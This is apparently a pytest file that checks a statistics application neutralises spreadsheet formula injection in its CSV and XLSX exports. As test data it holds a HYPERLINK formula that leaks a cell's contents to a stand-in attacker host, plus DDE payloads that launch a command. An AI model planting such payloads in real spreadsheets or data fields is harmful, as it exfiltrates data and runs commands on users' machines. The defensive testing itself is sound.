"""No CSV or XLSX file of BIF lets a cell run as a formula (bif/exports.py), in every export."""

import csv
import decimal
import io

import openpyxl
import pytest
from django.db import connections
from django.urls import reverse

from bif import audit
from bif.exports import neutralise_cell, neutralise_text
from departments import services, uploads
from statistics_office.intake import versions
from statistics_office.microdata import reports, store
from tests import factories
from tests.factories import GESCHLECHT, STADTTEIL, sex_cells

pytestmark = pytest.mark.usefixtures("empty_cache")

EVIL = '=HYPERLINK("http://angreifer.example/?d="&A1,"Hilfe")'
EVIL_AT = "@SUMME(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-A1", "'-A1"),
        ("Altstadt", "Altstadt"),
        ("–", "–"),
        ("-3,5", "-3,5"),
        ("-1.234,5", "-1.234,5"),
        ("+49", "+49"),
        ("-1e-3", "-1e-3"),
        ("", ""),
    ],
)
def test_neutralise_cell_prefixes_formulas_and_leaves_numbers(value, expected):
    assert neutralise_cell(value) == expected


@pytest.mark.parametrize("number", [-5, -3.5, decimal.Decimal("-1.25"), 0, True])
def test_numbers_stay_numbers(number):
    assert neutralise_cell(number) is number


def test_none_is_an_empty_text_cell_but_stays_empty_in_xlsx():
    assert neutralise_text(None) == ""
    assert neutralise_cell(None) is None


def csv_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


def xlsx_values(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [c for sheet in book for row in sheet.iter_rows(values_only=True) for c in row]


def assert_defused(values):
    texts = [v for v in values if isinstance(v, str)]
    assert "'" + EVIL in texts
    assert not any(v.startswith(("=", "@")) for v in texts), texts


@pytest.fixture
def evil_table(publish):
    stadtteil = {**STADTTEIL, "labels": {**STADTTEIL["labels"], "01": EVIL}}
    return publish("formel", sex_cells(), [stadtteil, GESCHLECHT], title=EVIL_AT)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_published_table_exports_defuse_formulas(client, staff, evil_table, fmt):
    client.force_login(staff)
    response = client.get(reverse("tables:published-export", args=[evil_table.pk, fmt]))
    assert response.status_code == 200
    values = (
        [c for row in csv_rows(response) for c in row] if fmt == "csv" else xlsx_values(response)
    )
    assert_defused(values)
    assert "'" + EVIL_AT in values
    if fmt == "xlsx":  # numbers stay numbers, the secret sign stays a sign
        assert 120 in values and "." in values


@pytest.mark.django_db
def test_published_table_api_csv_defuses_formulas(client, staff, evil_table):
    client.force_login(staff)
    response = client.get(f"/api/v1/tables/{evil_table.pk}/csv/")
    assert response.status_code == 200, response.content[:200]
    assert_defused([c for row in csv_rows(response) for c in row])


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_dashboard_downloads_defuse_formulas(client, staff, evil_table, make_dashboard, fmt):
    board = make_dashboard(
        "formel",
        widgets=[{"title": EVIL_AT, "kind": "bar", "table": evil_table.definition}],
    )
    widget = board.widgets.get()
    client.force_login(staff)
    response = client.get(f"/dashboards/formel/elemente/{widget.pk}/daten.{fmt}")
    assert response.status_code == 200
    values = (
        [c for row in csv_rows(response) for c in row] if fmt == "csv" else xlsx_values(response)
    )
    assert_defused(values)
    assert "'" + EVIL_AT in values


@pytest.mark.django_db
def test_audit_log_csv_defuses_formulas(client, administrator, statistician):
    audit.record(action=audit.Action.AGGREGATION_RUN, user=statistician, purpose=EVIL)
    client.force_login(administrator)
    response = client.get(reverse("audit:audit-log-csv"))
    assert response.status_code == 200
    assert_defused([c for row in csv_rows(response) for c in row])


@pytest.mark.django_db
def test_rollout_workbook_defuses_formulas(client, administrator, department):
    factories.DataSourceFactory(name=EVIL, slug="formel", department=department)
    client.force_login(administrator)
    response = client.get(reverse("rollout:export"))
    assert response.status_code == 200
    assert_defused(xlsx_values(response))


SCHEMA = {
    "fields": [
        {"name": "Personen-ID", "type": "string", "constraints": {"unique": True}},
        {"name": "Name", "type": "string"},
        {"name": "Alter", "type": "integer"},
    ],
    "primaryKey": ["Personen-ID"],
}


def upload(source, rows, user=None):
    data = "Personen-ID;Name;Alter\n" + "\n".join(rows) + "\n"
    run = uploads.submit_upload(
        source=source, uploaded_by=user, file_name="f.csv", chunks=[data.encode()]
    )
    run.refresh_from_db()
    return run


@pytest.mark.django_db(databases=["default", "sealed"], transaction=True)
@pytest.mark.usefixtures("clean_sealed_tables")
def test_import_findings_csv_defuses_the_quoted_values(client, analyst, source):
    services.set_schema(source, SCHEMA)
    run = upload(
        source, ["0001;Anna;30", f'0002;"{EVIL.replace(chr(34), chr(34) * 2)}";40'], analyst
    )
    assert run.status == "failed" and any(
        f["rule"] == "formula" for f in reports.findings_of(run.pk)
    )
    client.force_login(analyst)
    response = client.get(reverse("departments:run-findings-csv", args=[run.pk]))
    assert response.status_code == 200
    values = [c for row in csv_rows(response) for c in row]
    assert any(v.startswith("'" + "=HYPERLINK") for v in values), values
    assert not any(v.startswith("=") for v in values)


@pytest.mark.django_db(databases=["default", "sealed"], transaction=True)
@pytest.mark.usefixtures("clean_sealed_tables")
def test_microdata_export_defuses_formulas_that_reached_the_sealed_database(
    client, statistician, source
):
    services.set_schema(source, SCHEMA)
    run = upload(source, ["0001;Anna;30", "0002;Berta;-4", "0003;Carl;50"])
    if run.status == "review":
        versions.activate(run.pk)
    # The import refuses formulas; one planted directly (an older load, a manual fix) must
    # still leave the office defused.
    version = store.current_version(source.pk)
    sealed = connections["sealed"]
    q = sealed.ops.quote_name
    name_column = version.columns["Name"]
    with sealed.cursor() as cursor:
        cursor.execute(
            f"UPDATE {q(version.table_name)} SET {q(name_column)} = %s WHERE {q(name_column)} = %s",
            [EVIL, "Anna"],
        )
    factories.grant(statistician, source, "view_microdata", "export_microdata")
    client.force_login(statistician)
    response = client.get(reverse("statistics_office:microdata-export", args=[source.slug]))
    assert response.status_code == 200
    rows = csv_rows(response)
    values = [c for row in rows for c in row]
    assert_defused(values)
    assert "-4" in values  # a negative number is left as it is
